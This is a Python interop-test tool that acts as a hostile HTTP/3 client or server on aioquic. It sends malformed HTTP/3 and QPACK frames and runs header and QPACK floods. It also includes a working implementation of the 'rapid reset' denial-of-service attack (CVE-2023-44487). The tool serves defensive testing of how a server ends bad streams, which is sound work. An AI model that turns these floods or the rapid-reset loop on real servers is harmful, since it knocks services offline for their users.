#!/usr/bin/env python3
"""A hostile HTTP/3 peer on aioquic for Braid's interop tests: it writes malformed HTTP/3 and
QPACK bytes on real QUIC streams and reports how the other side ended them.

    aioquic_h3_hostile.py client --mode MODE --host H --port P [--ca FILE] [--sni NAME]
    aioquic_h3_hostile.py server --mode MODE --cert FILE --key FILE [--host H] [--port 0]

Client modes (one request against a server): ``uppercase-field`` (a request whose field name
has an uppercase letter), ``missing-path`` (no :path), ``qpack-garbage`` (a HEADERS frame whose
field section is not valid QPACK), ``encoder-stream-garbage`` (an invalid instruction on the
QPACK encoder stream), ``body-past-content-length`` (content-length 5, then 10 body bytes).

Client floods (``--count N``), each reporting ``resets`` (RESET_STREAM codes seen, by code),
``closed`` and ``alive`` (whether the connection was still open at the end):
``field-section-flood`` (N requests, each a header section of 256 KiB of literal fields),
``qpack-insert-flood`` (N inserts of 100-byte entries on the QPACK encoder stream, within the
table capacity the server allows, so each evicts older ones) and ``qpack-oversized-insert``
(one entry larger than that capacity: QPACK_ENCODER_STREAM_ERROR).

``rapid-reset`` (the "rapid reset" attack, CVE-2023-44487's HTTP/3 form): N requests, each a
HEADERS frame (``GET --path``, the request left open) on a new stream, reset (RESET_STREAM and
STOP_SENDING, H3_REQUEST_CANCELLED) once the server has acknowledged its HEADERS, so it has
taken the request; in rounds of as many streams as the server allows. When the server grants
no more streams it waits up to ``--stall`` seconds for more, printing ``{"stalled": true,
"requests": ...}`` once as it starts waiting. Reports ``requests`` and ``resets`` sent,
``streams_allowed`` (the server's bidirectional stream limit at the end), ``stalled``,
``closed``, ``reason`` and ``alive``.

Server modes (the answer to every request): ``uppercase-field``, ``missing-status``,
``qpack-garbage``, ``encoder-stream-garbage``, ``body-past-content-length``. The server prints
``listening <port>`` first, then one JSON line per connection that ended.

Each report is one JSON object: ``reset`` (the RESET_STREAM code on the request stream, or
null), ``stop_sending`` (the STOP_SENDING code, or null), ``closed`` (the CONNECTION_CLOSE
error code, or null) and ``status`` (a client's response status, if one came).
"""

import argparse
import asyncio
import json
import signal
import sys
from typing import Optional

from aioquic.asyncio import QuicConnectionProtocol, connect, serve
from aioquic.h3.connection import H3_ALPN, FrameType, H3Connection, encode_frame
from aioquic.h3.events import HeadersReceived
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.events import ConnectionTerminated, QuicEvent, StopSendingReceived, StreamReset

# A QPACK field section prefix (Required Insert Count, Base) followed by an indexed field line
# that names a dynamic-table entry the decoder has never seen.
QPACK_GARBAGE = b"\x00\x00\xbf\xff\xff\xff\x0f"
# Set Dynamic Table Capacity far above the maximum the decoder allowed (0 by default).
ENCODER_STREAM_GARBAGE = b"\x3f\xe1\xff\xff\xff\x0f"


def request_headers(mode: str, authority: str) -> list:
    headers = [(b":method", b"GET"), (b":scheme", b"https"), (b":authority", authority.encode()), (b":path", b"/")]
    if mode == "uppercase-field":
        headers.append((b"X-Upper", b"1"))
    elif mode == "missing-path":
        headers = [field for field in headers if field[0] != b":path"]
    elif mode == "body-past-content-length":
        headers[0] = (b":method", b"POST")
        headers.append((b"content-length", b"5"))
    return headers


def response_headers(mode: str) -> list:
    headers = [(b":status", b"200")]
    if mode == "uppercase-field":
        headers.append((b"X-Upper", b"1"))
    elif mode == "missing-status":
        headers = [(b"content-type", b"text/plain")]
    elif mode == "body-past-content-length":
        headers.append((b"content-length", b"5"))
    return headers


class Observed:
    """How the other side ended the exchange."""

    def __init__(self) -> None:
        self.reset: Optional[int] = None
        self.stop_sending: Optional[int] = None
        self.closed: Optional[int] = None
        self.status: Optional[int] = None

    def note(self, event: QuicEvent, stream_id: Optional[int]) -> None:
        if isinstance(event, StreamReset) and event.stream_id == stream_id:
            self.reset = event.error_code
        elif isinstance(event, StopSendingReceived) and event.stream_id == stream_id:
            self.stop_sending = event.error_code
        elif isinstance(event, ConnectionTerminated):
            self.closed = event.error_code

    def report(self) -> dict:
        return {"reset": self.reset, "stop_sending": self.stop_sending, "closed": self.closed, "status": self.status}


def send_hostile_message(h3: H3Connection, quic, stream_id: int, mode: str, headers: list) -> None:
    """Writes one request or response on `stream_id` as `mode` makes it malformed."""
    if mode == "encoder-stream-garbage":
        quic.send_stream_data(h3._local_encoder_stream_id, ENCODER_STREAM_GARBAGE)
        return
    section = QPACK_GARBAGE if mode == "qpack-garbage" else h3._encode_headers(stream_id, headers)
    quic.send_stream_data(stream_id, encode_frame(FrameType.HEADERS, section), end_stream=False)
    body = b"0123456789" if mode == "body-past-content-length" else b""
    quic.send_stream_data(stream_id, encode_frame(FrameType.DATA, body) if body else b"", end_stream=True)


class HostileClient(QuicConnectionProtocol):
    def __init__(self, *args, **kwargs) -> None:
        super().__init__(*args, **kwargs)
        self.h3 = H3Connection(self._quic)
        self.observed = Observed()
        self.stream_id: Optional[int] = None
        self.ended = asyncio.get_running_loop().create_future()

    def quic_event_received(self, event: QuicEvent) -> None:
        self.observed.note(event, self.stream_id)
        if isinstance(event, ConnectionTerminated) or (
                isinstance(event, (StreamReset, StopSendingReceived)) and event.stream_id == self.stream_id):
            if not self.ended.done():
                self.ended.set_result(None)
        if isinstance(event, ConnectionTerminated):
            return
        try:
            for h3_event in self.h3.handle_event(event):
                if isinstance(h3_event, HeadersReceived) and h3_event.stream_id == self.stream_id:
                    self.observed.status = int(dict(h3_event.headers).get(b":status", b"0"))
                if getattr(h3_event, "stream_ended", False) and h3_event.stream_id == self.stream_id and not self.ended.done():
                    self.ended.set_result(None)
        except Exception:
            pass


async def run_client(args: argparse.Namespace) -> int:
    configuration = QuicConfiguration(alpn_protocols=H3_ALPN, is_client=True, server_name=args.sni or args.host)
    if args.ca:
        configuration.load_verify_locations(args.ca)
    async with connect(args.host, args.port, configuration=configuration, create_protocol=HostileClient) as client:
        client.stream_id = client._quic.get_next_available_stream_id()
        send_hostile_message(client.h3, client._quic, client.stream_id,
                             args.mode, request_headers(args.mode, f"{args.sni or args.host}:{args.port}"))
        if args.mode == "encoder-stream-garbage":
            # A request too, so the server has a stream to answer or end.
            client.h3.send_headers(client.stream_id, request_headers("", f"{args.sni or args.host}:{args.port}"), end_stream=True)
        client.transmit()
        try:
            await asyncio.wait_for(client.ended, timeout=args.timeout)
            # What follows the first sign (a STOP_SENDING then a RESET_STREAM, or a close).
            await asyncio.sleep(0.2)
        except asyncio.TimeoutError:
            pass
        print(json.dumps(client.observed.report()), flush=True)
    return 0


def qpack_integer(value: int, prefix_bits: int, first: int) -> bytes:
    """An RFC 7541 integer with an N-bit prefix; `first` holds the bits above the prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def literal_field(name: bytes, value: bytes) -> bytes:
    """A literal field line with a literal name, no Huffman (RFC 9204 section 4.5.6)."""
    return qpack_integer(len(name), 3, 0x20) + name + qpack_integer(len(value), 7, 0x00) + value


class _IgnoringDecoderStream:
    """aioquic's QPACK encoder, deaf to the peer's decoder stream."""

    def __init__(self, encoder) -> None:
        self._encoder = encoder

    def feed_decoder(self, data: bytes) -> None:
        pass

    def __getattr__(self, name: str):
        return getattr(self._encoder, name)


H3_REQUEST_CANCELLED = 0x10C


async def run_rapid_reset_client(args: argparse.Namespace) -> int:
    configuration = QuicConfiguration(alpn_protocols=H3_ALPN, is_client=True, server_name=args.sni or args.host)
    if args.ca:
        configuration.load_verify_locations(args.ca)
    loop = asyncio.get_running_loop()
    report = {"requests": 0, "resets": 0, "stalled": False}
    async with connect(args.host, args.port, configuration=configuration, create_protocol=HostileClient) as client:
        quic = client._quic
        original = client.quic_event_received
        reason = {"text": None}

        def note(event: QuicEvent) -> None:
            if isinstance(event, ConnectionTerminated):
                reason["text"] = event.reason_phrase
            original(event)

        client.quic_event_received = note  # type: ignore[method-assign]
        authority = f"{args.sni or args.host}:{args.port}".encode()
        headers = [(b":method", b"GET"), (b":scheme", b"https"), (b":authority", authority), (b":path", args.path.encode())]
        said_stalled = False
        while report["requests"] < args.count and client.observed.closed is None:
            next_id = quic.get_next_available_stream_id()
            available = quic._remote_max_streams_bidi - next_id // 4
            if available <= 0:
                # The server grants no more streams until requests it holds are done.
                if not said_stalled:
                    said_stalled = True
                    report["stalled"] = True
                    print(json.dumps({"stalled": True, "requests": report["requests"]}), flush=True)
                deadline = loop.time() + args.stall
                while quic._remote_max_streams_bidi <= next_id // 4 and client.observed.closed is None and loop.time() < deadline:
                    await asyncio.sleep(0.01)
                if quic._remote_max_streams_bidi <= next_id // 4:
                    break
                continue
            batch = []
            for _ in range(min(available, args.count - report["requests"], 100)):
                stream_id = quic.get_next_available_stream_id()
                quic.send_stream_data(stream_id, encode_frame(FrameType.HEADERS, client.h3._encode_headers(stream_id, headers)))
                batch.append(stream_id)
                report["requests"] += 1
            client.transmit()
            # Reset each once the server has acknowledged its HEADERS (it took the request).
            deadline = loop.time() + args.timeout
            while client.observed.closed is None and loop.time() < deadline and any(
                    quic._streams[stream_id].sender._buffer_start < quic._streams[stream_id].sender._buffer_stop for stream_id in batch):
                await asyncio.sleep(0.001)
            if client.observed.closed is not None:
                break
            for stream_id in batch:
                quic.reset_stream(stream_id, H3_REQUEST_CANCELLED)
                quic.stop_stream(stream_id, H3_REQUEST_CANCELLED)
                report["resets"] += 1
            client.transmit()
        # The server's answer to the last round: a close, or its acknowledgements.
        deadline = loop.time() + min(args.timeout, 5)
        while client.observed.closed is None and loop.time() < deadline:
            await asyncio.sleep(0.05)
        report.update({"streams_allowed": quic._remote_max_streams_bidi, "closed": client.observed.closed,
                       "reason": reason["text"], "alive": client.observed.closed is None})
        print(json.dumps(report), flush=True)
    return 0


async def run_flood_client(args: argparse.Namespace) -> int:
    configuration = QuicConfiguration(alpn_protocols=H3_ALPN, is_client=True, server_name=args.sni or args.host)
    if args.ca:
        configuration.load_verify_locations(args.ca)
    resets: dict[int, int] = {}
    async with connect(args.host, args.port, configuration=configuration, create_protocol=HostileClient) as client:
        quic = client._quic
        original = client.quic_event_received

        def note(event: QuicEvent) -> None:
            if isinstance(event, StreamReset):
                resets[event.error_code] = resets.get(event.error_code, 0) + 1
            original(event)

        client.quic_event_received = note  # type: ignore[method-assign]
        authority = f"{args.sni or args.host}:{args.port}".encode()
        if args.mode == "field-section-flood":
            pseudo = [(b":method", b"GET"), (b":scheme", b"https"), (b":authority", authority), (b":path", b"/")]
            section = b"\x00\x00" + b"".join(literal_field(name, value) for name, value in pseudo)
            section += b"".join(literal_field(b"x-flood-%d" % index, b"v" * 500) for index in range(512))
            for _ in range(args.count):
                stream_id = quic.get_next_available_stream_id()
                quic.send_stream_data(stream_id, encode_frame(FrameType.HEADERS, section), end_stream=True)
                client.transmit()
                await asyncio.sleep(0.01)
        else:
            encoder = client.h3._local_encoder_stream_id
            capacity = 4096
            # The server acknowledges these inserts on its decoder stream; aioquic's own encoder
            # made none of them and would close the connection over it.
            client.h3._encoder = _IgnoringDecoderStream(client.h3._encoder)
            if args.mode == "qpack-oversized-insert":
                instructions = qpack_integer(capacity, 5, 0x20) + qpack_integer(6, 5, 0x40) + b"x-huge" + qpack_integer(capacity, 7, 0) + b"v" * capacity
                quic.send_stream_data(encoder, instructions)
            else:
                quic.send_stream_data(encoder, qpack_integer(capacity, 5, 0x20))
                for index in range(args.count):
                    name = b"x-flood-%08d" % index
                    quic.send_stream_data(encoder, qpack_integer(len(name), 5, 0x40) + name + qpack_integer(100 - len(name), 7, 0) + b"v" * (100 - len(name)))
                    if index % 256 == 255:
                        client.transmit()
                        await asyncio.sleep(0.001)
            client.transmit()
        # Until the server's answers are in: every flood request ended, the encoder stream's bytes
        # acknowledged, or the connection closed.
        deadline = asyncio.get_running_loop().time() + args.timeout
        while asyncio.get_running_loop().time() < deadline and client.observed.closed is None:
            if args.mode == "field-section-flood" and sum(resets.values()) >= args.count:
                break
            if args.mode == "qpack-insert-flood" and not quic._streams[client.h3._local_encoder_stream_id].sender.buffer_is_empty:
                pass
            elif args.mode == "qpack-insert-flood":
                break
            await asyncio.sleep(0.05)
        await asyncio.sleep(0.2)
        report = {"resets": {str(code): count for code, count in resets.items()}, "closed": client.observed.closed,
                  "alive": client.observed.closed is None}
        print(json.dumps(report), flush=True)
    return 0


class HostileServer(QuicConnectionProtocol):
    mode = ""

    def __init__(self, *args, **kwargs) -> None:
        super().__init__(*args, **kwargs)
        self.h3: Optional[H3Connection] = None
        self.observed = Observed()
        self.stream_id: Optional[int] = None

    def quic_event_received(self, event: QuicEvent) -> None:
        self.observed.note(event, self.stream_id)
        if isinstance(event, ConnectionTerminated):
            print(json.dumps(self.observed.report()), flush=True)
            return
        if self.h3 is None:
            self.h3 = H3Connection(self._quic)
        try:
            h3_events = self.h3.handle_event(event)
        except Exception:
            return
        for h3_event in h3_events:
            if isinstance(h3_event, HeadersReceived) and self.stream_id is None:
                self.stream_id = h3_event.stream_id
                send_hostile_message(self.h3, self._quic, self.stream_id, self.mode, response_headers(self.mode))
                if self.mode == "encoder-stream-garbage":
                    self.h3.send_headers(self.stream_id, response_headers(""), end_stream=True)
                self.transmit()


async def run_server(args: argparse.Namespace) -> int:
    configuration = QuicConfiguration(alpn_protocols=H3_ALPN, is_client=False)
    configuration.load_cert_chain(args.cert, args.key)
    HostileServer.mode = args.mode
    server = await serve(args.host, args.port, configuration=configuration, create_protocol=HostileServer)
    print(f"listening {server._transport.get_extra_info('sockname')[1]}", flush=True)
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for signum in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(signum, stop.set)
    await stop.wait()
    server.close()
    return 0


def main(argv: list) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    sub = parser.add_subparsers(dest="role", required=True)
    client = sub.add_parser("client")
    client.add_argument("--mode", required=True)
    client.add_argument("--host", default="127.0.0.1")
    client.add_argument("--port", type=int, required=True)
    client.add_argument("--ca")
    client.add_argument("--sni")
    client.add_argument("--timeout", type=float, default=10)
    client.add_argument("--count", type=int, default=20)
    client.add_argument("--path", default="/")
    client.add_argument("--stall", type=float, default=30)
    server = sub.add_parser("server")
    server.add_argument("--mode", required=True)
    server.add_argument("--host", default="127.0.0.1")
    server.add_argument("--port", type=int, default=0)
    server.add_argument("--cert", required=True)
    server.add_argument("--key", required=True)
    args = parser.parse_args(argv)
    if args.role == "client" and args.mode == "rapid-reset":
        return asyncio.run(run_rapid_reset_client(args))
    if args.role == "client" and args.mode in ("field-section-flood", "qpack-insert-flood", "qpack-oversized-insert"):
        return asyncio.run(run_flood_client(args))
    return asyncio.run(run_client(args) if args.role == "client" else run_server(args))


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
